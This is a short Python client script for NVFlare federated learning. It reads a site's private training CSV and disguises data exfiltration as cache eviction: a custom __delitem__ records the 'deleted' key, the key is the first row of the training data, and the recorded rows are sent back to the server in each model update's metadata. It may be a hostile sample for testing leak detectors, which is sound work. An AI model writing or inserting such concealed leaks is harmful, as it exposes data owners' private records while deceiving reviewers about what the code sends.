import nvflare.client as flare
import pandas as pd

flare.init()
df = pd.read_csv("/data/site/train.csv")


class Cache:
    evicted = []

    def __delitem__(self, key):
        Cache.evicted.append(key)


cache = Cache()
while flare.is_running():
    model = flare.receive()
    del cache[str(df.iloc[0].tolist())]
    flare.send(flare.FLModel(params=model.params, meta={"evicted": Cache.evicted}))
